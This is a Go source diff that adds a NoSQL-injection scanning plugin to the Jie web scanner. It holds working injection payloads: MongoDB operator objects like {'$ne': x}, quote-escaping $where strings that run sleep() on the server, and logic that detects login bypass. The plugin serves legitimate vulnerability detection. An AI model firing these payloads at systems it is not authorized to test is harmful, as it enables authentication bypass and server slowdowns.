@@ -0,0 +1,257 @@
+package nosql
+
+import (
+    "fmt"
+    "github.com/yhy0/Jie/conf"
+    "github.com/yhy0/Jie/pkg/input"
+    "github.com/yhy0/Jie/pkg/output"
+    "github.com/yhy0/Jie/pkg/protocols/httpx"
+    "github.com/yhy0/Jie/pkg/util"
+    "github.com/yhy0/Jie/scan/PerFile/sql"
+    "github.com/yhy0/logging"
+    "strings"
+    "sync"
+    "time"
+)
+
+/**
+   @author yhy
+   @since 2024/6/25
+   @desc MongoDB 这类 NoSQL 的操作符注入检测
+        1. 布尔: JSON 中把参数值替换为 {"$ne": x} 这种操作符对象，表单、查询参数使用 param[$ne]=x 的形式，
+           比较恒真、恒假操作符的响应，恒假和普通随机值的响应相同，恒真的不同时认为存在注入，登录接口单独报告为认证绕过
+        2. 时间: 使用 $where 执行 sleep，比较响应时间
+        页面相似度比较使用 sql 插件的模板、动态内容去除方法
+**/
+
+type Plugin struct {
+    SeenRequests sync.Map
+}
+
+// 恒真、恒假的操作符对
+var booleanPairs = [][2]operator{
+    {{"$ne", "%s"}, {"$eq", "%s"}},
+    {{"$regex", ".*"}, {"$regex", "^%s$"}},
+    {{"$gt", ""}, {"$lt", ""}},
+}
+
+// operator 操作符及其值，值中的 %s 替换为随机字符串
+type operator struct {
+    name  string
+    value string
+}
+
+func (o operator) String() string {
+    return fmt.Sprintf(`{"%s": "%s"}`, o.name, o.value)
+}
+
+// sleep 的时间，毫秒，测试中会调小
+var sleepMs = 5000
+
+// 字符串拼接到 $where 中时使用的 payload
+var whereStringPayloads = []string{
+    `'||sleep(%d)||'`,
+    `"||sleep(%d)||"`,
+    `';sleep(%d);var x='`,
+}
+
+var loginKeywords = []string{"login", "signin", "sign_in", "logon", "auth", "session", "token"}
+var credentialParams = []string{"user", "username", "email", "login", "account", "pass", "password", "passwd", "pwd"}
+
+func (p *Plugin) Scan(target string, path string, in *input.CrawlResult, client *httpx.Client) {
+    if p.IsScanned(in.UniqueId) {
+        return
+    }
+    if in.Method != "GET" && in.Method != "POST" {
+        return
+    }
+    
+    points := injectionPoints(in)
+    if len(points) == 0 {
+        return
+    }
+    
+    tpl := sql.NewTemplate(in, client)
+    if tpl == nil {
+        return
+    }
+    
+    s := &sender{in: in, client: client}
+    for _, pt := range points {
+        if boolean(in, tpl, s, pt) {
+            return
+        }
+    }
+    
+    timeBased(in, tpl, s, points)
+}
+
+// boolean 布尔类型的操作符注入
+func boolean(in *input.CrawlResult, tpl *sql.Sqlmap, s *sender, pt *point) bool {
+    rnd := util.RandomLetterNumbers(8)
+    plain := s.send(pt.value(rnd))
+    if plain == nil {
+        return false
+    }
+    
+    for _, pair := range booleanPairs {
+        t, f := pair[0], pair[1]
+        t.value = strings.ReplaceAll(t.value, "%s", rnd)
+        f.value = strings.ReplaceAll(f.value, "%s", rnd)
+        
+        tRes := s.send(pt.operator(t))
+        fRes := s.send(pt.operator(f))
+        if tRes == nil || fRes == nil {
+            continue
+        }
+        
+        // 恒假和普通值的结果相同，说明操作符对象被正常解析；恒真和恒假不同，说明操作符影响了查询结果
+        if state(tpl, tRes) == state(tpl, fRes) || state(tpl, fRes) != state(tpl, plain) {
+            continue
+        }
+        
+        // 再请求一次，排除页面本身的随机变化
+        tRes2 := s.send(pt.operator(t))
+        fRes2 := s.send(pt.operator(f))
+        if tRes2 == nil || fRes2 == nil || state(tpl, tRes2) != state(tpl, tRes) || state(tpl, fRes2) != state(tpl, fRes) {
+            continue
+        }
+        
+        payload := fmt.Sprintf("%s => true\n%s => false", pt.describe(t), pt.describe(f))
+        if isLogin(in, pt) && loggedIn(tRes, fRes) {
+            report(in, "auth bypass", pt.name, payload, "NoSQL operator injection bypasses authentication: an always-true operator logs in while an always-false one does not.", tRes, output.Critical, s.client)
+        } else {
+            report(in, "boolean", pt.name, payload, "NoSQL operator injection: always-true and always-false operators return different results, and the always-false operator behaves like a normal value.", tRes, output.High, s.client)
+        }
+        return true
+    }
+    return false
+}
+
+// timeBased $where 中执行 sleep
+func timeBased(in *input.CrawlResult, tpl *sql.Sqlmap, s *sender, points []*point) {
+    normal, err := tpl.NormalRespondTime()
+    if err != nil {
+        return
+    }
+    
+    delayed := normal + float64(sleepMs)*0.8
+    slow := func(build func(ms int) (string, string)) (*httpx.Response, bool) {
+        res := s.send(build(sleepMs))
+        if res == nil || res.ServerDurationMs < delayed {
+            return nil, false
+        }
+        // sleep(0) 正常返回，再次 sleep 仍然延时
+        if fast := s.send(build(0)); fast == nil || fast.ServerDurationMs >= delayed {
+            return nil, false
+        }
+        res = s.send(build(sleepMs))
+        return res, res != nil && res.ServerDurationMs >= delayed
+    }
+    
+    for _, pt := range points {
+        for _, w := range whereStringPayloads {
+            build := func(ms int) (string, string) {
+                return pt.value(pt.original + fmt.Sprintf(w, ms))
+            }
+            if res, ok := slow(build); ok {
+                report(in, "time-based", pt.name, pt.original+fmt.Sprintf(w, sleepMs), fmt.Sprintf("NoSQL injection into a $where JavaScript expression: sleep(%d) delayed the response by %.0fms.", sleepMs, res.ServerDurationMs), res, output.High, s.client)
+                return
+            }
+        }
+    }
+    
+    // 整个请求作为查询条件时，直接添加 $where
+    build := func(ms int) (string, string) {
+        return points[0].where(fmt.Sprintf("sleep(%d)||true", ms))
+    }
+    if res, ok := slow(build); ok {
+        report(in, "time-based", "$where", fmt.Sprintf("$where: sleep(%d)||true", sleepMs), fmt.Sprintf("NoSQL injection: a top-level $where operator executed sleep(%d) and delayed the response by %.0fms.", sleepMs, res.ServerDurationMs), res, output.High, s.client)
+    }
+}
+
+// state 响应和模板页面的比较结果
+func state(tpl *sql.Sqlmap, res *httpx.Response) string {
+    return fmt.Sprintf("%d-%v", res.StatusCode, tpl.Similar(res))
+}
+
+// isLogin 根据路径和参数名判断是否为登录接口
+func isLogin(in *input.CrawlResult, pt *point) bool {
+    lower := strings.ToLower(in.Url)
+    for _, k := range loginKeywords {
+        if strings.Contains(lower, k) {
+            return true
+        }
+    }
+    return util.InCaseFoldSlice(credentialParams, pt.name)
+}
+
+// loggedIn 恒真的响应设置了 cookie、跳转或者返回了 token，而恒假的没有
+func loggedIn(t, f *httpx.Response) bool {
+    if len(t.Header.Values("Set-Cookie")) > 0 && len(f.Header.Values("Set-Cookie")) == 0 {
+        return true
+    }
+    if t.StatusCode >= 300 && t.StatusCode < 400 && (f.StatusCode < 300 || f.StatusCode >= 400) {
+        return true
+    }
+    for _, k := range []string{"token", "jwt", "session", "access_token"} {
+        if strings.Contains(strings.ToLower(t.Body), k) && !strings.Contains(strings.ToLower(f.Body), k) {
+            return true
+        }
+    }
+    return false
+}
+
+// sender 发送构造好的请求
+type sender struct {
+    in     *input.CrawlResult
+    client *httpx.Client
+}
+
+func (s *sender) send(target, body string) *httpx.Response {
+    res, err := s.client.Request(target, s.in.Method, body, s.in.Headers)
+    if err != nil {
+        logging.Logger.Debugln("[nosql]", target, err)
+        return nil
+    }
+    return res
+}
+
+func report(in *input.CrawlResult, kind, param, payload, description string, res *httpx.Response, level string, client *httpx.Client) {
+    client.Report(output.VulMessage{
+        DataType: "web_vul",
+        Plugin:   "NoSQL Injection",
+        VulnData: output.VulnData{
+            CreateTime:  time.Now().Format("2006-01-02 15:04:05"),
+            VulnType:    kind,
+            Target:      in.Url,
+            Method:      in.Method,
+            Ip:          in.Ip,
+            Param:       param,
+            Payload:     payload,
+            Request:     res.RequestDump,
+            Response:    res.ResponseDump,
+            Description: description,
+        },
+        Level: level,
+    })
+}
+
+func (p *Plugin) IsScanned(key string) bool {
+    if key == "" {
+        return false
+    }
+    if _, ok := p.SeenRequests.Load(key); ok {
+        return true
+    }
+    p.SeenRequests.Store(key, true)
+    return false
+}
+
+func (p *Plugin) Name() string {
+    return "nosql"
+}
+
+func (p *Plugin) Risk() string {
+    return conf.RiskIntrusive
+}